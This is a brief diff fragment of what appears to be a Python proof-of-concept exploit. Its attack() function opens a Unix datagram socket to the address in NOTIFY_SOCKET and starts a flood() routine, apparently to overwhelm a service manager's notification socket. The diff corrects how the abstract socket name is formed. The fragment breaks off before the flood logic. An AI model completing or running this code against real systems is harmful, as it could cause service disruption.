@@ -19,7 +19,7 @@ libc = ctypes.CDLL(None, use_errno=True)
 libc.mmap.restype = ctypes.c_void_p
 libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
 def attack():
-    me = "\0" + os.environ["NOTIFY_SOCKET"][1:]
+    me = os.environ["NOTIFY_SOCKET"].replace("@", "\0", 1)
     n = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
     def flood():
         i = 0
